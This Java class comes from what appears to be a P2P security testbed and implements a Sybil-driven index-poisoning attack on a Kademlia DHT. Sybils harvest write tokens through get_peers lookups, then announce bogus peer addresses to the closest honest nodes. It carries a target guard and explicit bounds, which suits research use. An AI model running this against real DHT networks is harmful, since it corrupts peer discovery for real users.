package io.p2ptestbed.adversary.kademlia.poison;

import io.p2ptestbed.adversary.kademlia.peer.QueryOutcome;
import io.p2ptestbed.adversary.kademlia.peer.ScriptedPeer;
import io.p2ptestbed.adversary.kademlia.peer.SybilSwarm;
import io.p2ptestbed.overlay.id.Contact;
import io.p2ptestbed.overlay.id.NodeAddress;
import io.p2ptestbed.overlay.id.NodeId;
import io.p2ptestbed.overlay.kademlia.LookupKind;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.concurrent.CompletableFuture;

/**
 * Storage poisoning: every Sybil runs a get_peers lookup for the info-hash (ignoring colluders), and
 * announces itself — its own IP with a bogus port — to each of the closest honest nodes, with the
 * valid write token that node handed out. Honest get_peers lookups then return the bogus peers.
 * Bounded by construction: at most k announces per Sybil, one lookup each.
 */
public final class IndexPoisoningAttack {

    private final SybilSwarm swarm;
    private final NodeId infoHash;
    private final int bogusPort;
    private final List<NodeAddress> seeds;
    private final Set<NodeAddress> poisoned = new LinkedHashSet<>();
    private final Set<NodeAddress> bogus = new LinkedHashSet<>();
    private int lookupQueries;
    private int sent;
    private int acked;

    public IndexPoisoningAttack(SybilSwarm swarm, NodeId infoHash, int bogusPort, List<NodeAddress> seeds) {
        if (bogusPort < 1 || bogusPort > 0xFFFF) {
            throw new IllegalArgumentException("bogus port must be in [1, 65535], got " + bogusPort);
        }
        seeds.forEach(s -> swarm.context().guard().check(s, "seed"));
        this.swarm = swarm;
        this.infoHash = infoHash;
        this.bogusPort = bogusPort;
        this.seeds = List.copyOf(seeds);
    }

    /** Runs the Sybils one after another, {@code spacingMillis} apart; completes when all announces settled. */
    public CompletableFuture<PoisoningResult> run(long spacingMillis) {
        List<CompletableFuture<Void>> all = new ArrayList<>();
        for (int i = 0; i < swarm.size(); i++) {
            ScriptedPeer p = swarm.peers().get(i);
            CompletableFuture<Void> done = new CompletableFuture<>();
            all.add(done);
            swarm.context().scheduler().schedule(i * spacingMillis, () -> poisonFrom(p, done));
        }
        return CompletableFuture.allOf(all.toArray(CompletableFuture[]::new)).thenApply(v -> new PoisoningResult(
                infoHash, Set.copyOf(poisoned), Set.copyOf(bogus), lookupQueries, sent, acked));
    }

    private void poisonFrom(ScriptedPeer p, CompletableFuture<Void> done) {
        p.lookup(infoHash, LookupKind.GET_PEERS, seeds).whenComplete((r, e) -> {
            if (r == null) {
                done.complete(null);
                return;
            }
            lookupQueries += r.queries();
            List<Contact> targets = r.closest().stream().filter(c -> r.tokens().containsKey(c.id())).toList();
            if (targets.isEmpty()) {
                done.complete(null);
                return;
            }
            bogus.add(new NodeAddress(p.address().ip(), bogusPort));
            int[] left = {targets.size()};
            for (Contact c : targets) {
                sent++;
                p.announcePeer(c.address(), infoHash, bogusPort, r.tokens().get(c.id())).thenAccept(o -> {
                    if (o instanceof QueryOutcome.Answered) {
                        acked++;
                        poisoned.add(c.address());
                    }
                    if (--left[0] == 0) {
                        done.complete(null);
                    }
                });
            }
        });
    }
}
